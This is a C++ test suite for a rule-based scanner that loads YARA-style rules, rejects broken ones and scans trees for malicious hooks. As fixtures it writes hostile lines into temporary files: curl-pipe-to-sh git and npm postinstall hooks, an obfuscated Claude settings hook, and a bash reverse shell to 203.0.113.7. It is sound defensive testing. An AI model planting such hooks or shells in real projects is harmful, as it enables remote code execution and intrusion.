// Loading rules from both folders: broken files and rules without a proper severity are named and
// skipped while everything else loads, user rules are picked up and see the derived views, and the
// audit command copes with the trees it is pointed at.

#include "ScanRunner.h"

#include <algorithm>
#include <gtest/gtest.h>
#include <set>
#include <sys/stat.h>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

const char* kUserRule =
    "rule user_marker_file { meta: severity = \"high\" condition: filename == \"marker.txt\" }\n";

const char* kBrokenRule = R"(rule broken_rule
{
    meta:
        severity = "high"
    strings:
        $a = "x"
    condition:
        $a and and
}
)";

bool hasEvent(const ScanResult& r, const std::string& rule, const std::string& severity)
{
    for (const auto& e : r.events)
        if (e.rule == rule && e.severity == severity)
            return true;
    return false;
}

std::string utf16le(const std::string& ascii)
{
    std::string out = "\xFF\xFE";
    for (char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

// The rule-text form of a string: quotes, backslashes and line ends escaped as YARA reads them.
std::string escaped(const std::string& text)
{
    std::string out;
    for (char c : text)
        out += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : c == '\n' ? "\\n" : std::string(1, c);
    return out;
}

class RulesLoading : public ::testing::Test
{
protected:
    void SetUp() override
    {
        useConfigHome(m_config.path());
        writeFile(m_tree / "marker.txt", "hello\n");
        fs::create_directories(m_tree / ".git" / "hooks");
        writeFile(m_tree / ".git" / "hooks" / "post-merge", "#!/bin/sh\ncurl -s https://e.example/x | sh\n");
    }
    TempDir m_config;
    TempDir m_tree;
};

TEST_F(RulesLoading, UserRuleUnderHomeWhenXdgConfigHomeIsUnset)
{
    ::unsetenv("XDG_CONFIG_HOME");
    TempDir home;
    const std::string oldHome = ::getenv("HOME") ? ::getenv("HOME") : "";
    ::setenv("HOME", home.path().c_str(), 1);
    writeUserRule(home / ".config", "mine.yara", kUserRule);
    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
    ::setenv("HOME", oldHome.c_str(), 1);
    EXPECT_TRUE(hasEvent(r, "user_marker_file", "high")) << r.process.out << r.process.err;
}

// A file with rules that lack a proper severity, then a broken file beside one that loads and one that
// names the same rule: each makes the check fail and is named, and everything else loads.
TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
{
    struct Row
    {
        const char* name;
        const char* meta;
        bool accepted;
    };
    const Row rows[] = {
        {"no_meta_at_all", "", false},
        {"other_meta_only", "author = \"x\"", false},
        {"capitalised", "severity = \"High\"", false},
        {"unknown_word", "severity = \"info\"", false},
        {"padded", "severity = \"high \"", false},
        {"not_a_string", "severity = 3", false},
        {"critical_ok", "severity = \"critical\"", true},
        {"high_ok", "severity = \"high\"", true},
        {"warning_ok", "severity = \"warning\"", true},
    };
    std::string text;
    for (const auto& row : rows) {
        text += std::string("rule ") + row.name + " { " +
                (*row.meta ? std::string("meta: ") + row.meta + " " : "") +
                "condition: filename == \"marker.txt\" }\n";
    }
    writeUserRule(m_config.path(), "mixed.yar", text);
    const ScanResult refused = runTwwatch({"--check-rules"});
    EXPECT_EQ(refused.process.exitCode, 1);

    writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
    writeUserRule(m_config.path(), "b-good.yar", kUserRule);
    writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
    const ScanResult check = runTwwatch({"--check-rules"});
    const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
    EXPECT_NE(check.process.err.find(broken + ":8: syntax error"), std::string::npos) << check.process.err;
    EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
    EXPECT_NE(check.process.out.find("  user_marker_file\n"), std::string::npos) << check.process.out;
    EXPECT_NE(check.process.out.find("  git_hook_runs_payload\n"), std::string::npos) << check.process.out;

    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 0);
    EXPECT_NE(r.process.err.find(broken), std::string::npos);
    EXPECT_EQ(
        std::count_if(r.events.begin(), r.events.end(),
                      [](const Event& e) { return e.rule == "user_marker_file" && e.severity == "high"; }),
        2)
        << r.process.out;
    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
    for (const auto& row : rows) {
        SCOPED_TRACE(row.name);
        const bool fired =
            std::any_of(r.events.begin(), r.events.end(), [&](const Event& e) { return e.rule == row.name; });
        EXPECT_EQ(fired, row.accepted) << r.process.out;
        const bool named =
            refused.process.err.find(std::string("rule ") + row.name + " refused") != std::string::npos;
        EXPECT_EQ(named, !row.accepted) << refused.process.err;
    }
}

// The bundled pack is found beside the executable through /proc/self/exe, wherever that is; without
// it the check fails and nothing matches.
TEST_F(RulesLoading, BundledPackBesideTheExecutable)
{
    TempDir install;
    fs::create_directories(install / "bin" / "rules");
    fs::copy_file(twwatchBinary(), install / "bin" / "twwatch");
    writeFile(install / "bin" / "rules" / "good.yar", kUserRule);
    writeFile(install / "bin" / "rules" / "broken.yar", kBrokenRule);
    writeFile(install / "bin" / "rules" / "notes.txt", "not a rule file");

    const ScanResult check = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
    EXPECT_EQ(check.process.exitCode, 1) << "a broken file makes the check fail";
    EXPECT_NE(check.process.err.find((install / "bin/rules/broken.yar").string()), std::string::npos)
        << check.process.err;
    EXPECT_NE(check.process.out.find("1 rules loaded from 2 files"), std::string::npos) << check.process.out;

    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()}, install / "bin" / "twwatch");
    ASSERT_EQ(r.events.size(), 1u) << r.process.out;
    EXPECT_EQ(r.events[0].rule, "user_marker_file");

    fs::remove_all(install / "bin" / "rules");
    const ScanResult none = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
    EXPECT_EQ(none.process.exitCode, 1);
    EXPECT_NE(none.process.err.find("no rule folder at " + (install / "bin/rules").string()),
              std::string::npos)
        << none.process.err;
    const ScanResult empty = runTwwatch({"--scan", m_tree.path().string()}, install / "bin" / "twwatch");
    EXPECT_EQ(empty.process.exitCode, 0);
    EXPECT_TRUE(empty.events.empty()) << empty.process.out;
}

// FIFOs and devices are declined without blocking, a link loop is not followed, git's object store is
// pruned like the watcher prunes it, a missing root does not stop the others, and relative roots come
// out as absolute paths.
TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
{
    ASSERT_EQ(::mkfifo((m_tree / ".git" / "hooks" / "pre-commit").c_str(), 0755), 0);
    fs::create_directory_symlink(m_tree.path(), m_tree / "loop");
    fs::create_symlink("/dev/zero", m_tree / "zero.js");
    fs::create_directories(m_tree / ".git" / "objects" / "ab");
    writeFile(m_tree / ".git" / "objects" / "ab" / "deploy.sh",
              "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    fs::create_directories(m_tree / "scripts");
    writeFile(m_tree / "scripts" / "deploy.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");

    const ScanResult r = runTwwatch({"--scan", (m_tree / "nowhere").string(), m_tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 3) << "a folder that cannot be read, not a usage error nor a hang\n"
                                     << r.process.err;
    EXPECT_NE(r.process.err.find("nowhere"), std::string::npos) << r.process.err;
    std::set<std::string> paths;
    for (const auto& e : r.events)
        paths.insert(e.path + " " + e.rule);
    const std::set<std::string> expected{(m_tree / ".git/hooks/post-merge").string() +
                                             " git_hook_runs_payload",
                                         (m_tree / "scripts/deploy.sh").string() + " reverse_shell"};
    EXPECT_EQ(paths, expected) << r.process.out;

    const ProcessResult relative = runProcess({twwatchBinary().string(), "--scan", "scripts"}, m_tree.path());
    bool decoded = true;
    const auto events = decodeEvents(relative.out, decoded);
    ASSERT_EQ(events.size(), 1u) << relative.out << relative.err;
    EXPECT_EQ(events[0].path, (m_tree / "scripts/deploy.sh").string());
}

TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
{
    for (int i = 0; i < 300; ++i) {
        fs::create_directories(m_tree / ("pkg" + std::to_string(i % 17)));
        writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("marker.txt"), "x");
        writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("f" + std::to_string(i) + ".txt"), "x");
    }
    writeUserRule(m_config.path(), "mine.yar", kUserRule);
    const ScanResult first = runTwwatch({"--scan", m_tree.path().string()});
    const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
    EXPECT_EQ(first.events.size(), 19u);
    EXPECT_EQ(first.process.out, second.process.out);
}

// A user rule that targets one view (`view == "..."`) fires on a file whose raw bytes do not hold the
// text it looks for; its line carries the rule's description and the file's line it matched on.
TEST_F(RulesLoading, UserRulesOnEachViewFire)
{
    struct Row
    {
        const char* rule;
        const char* view;
        const char* needle; // what the rule looks for, only in that view
        const char* file;
        std::string content;
        const char* description; // none when null
        std::vector<std::uint32_t> lines;
    };
    const Row rows[] = {
        {"user_text",
         "text",
         "curl -fsSL https://e.example/x | sh",
         "setup.sh",
         utf16le("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"),
         "fetches \"x\"\nand runs it",
         {2}},
        {"user_config",
         "config",
         "hooks.SessionStart.0.hooks.0.command = curl",
         ".claude/settings.json",
         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})",
         "a hook",
         {1}},
        {"user_commands",
         "commands",
         "npm.postinstall: curl -fsSL",
         "pkg/package.json",
         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})",
         nullptr,
         {1}},
    };
    std::string rules;
    for (const auto& row : rows) {
        const std::string description =
            row.description ? " description = \"" + escaped(row.description) + "\"" : std::string();
        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\"" + description +
                 " strings: $a = \"" + row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
        fs::create_directories((m_tree / row.file).parent_path());
        writeFile(m_tree / row.file, row.content);
    }
    writeUserRule(m_config.path(), "views.yar", rules);

    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
    for (const auto& row : rows) {
        const auto e = std::find_if(r.events.begin(), r.events.end(), [&](const Event& e) {
            return e.path == (m_tree / row.file).string() && e.rule == row.rule;
        });
        ASSERT_NE(e, r.events.end()) << row.rule << " on " << row.file << "\n" << r.process.out;
        EXPECT_EQ(e->description, row.description ? row.description : "") << row.rule;
        EXPECT_EQ(e->lines, row.lines) << row.rule;
    }
}

} // namespace
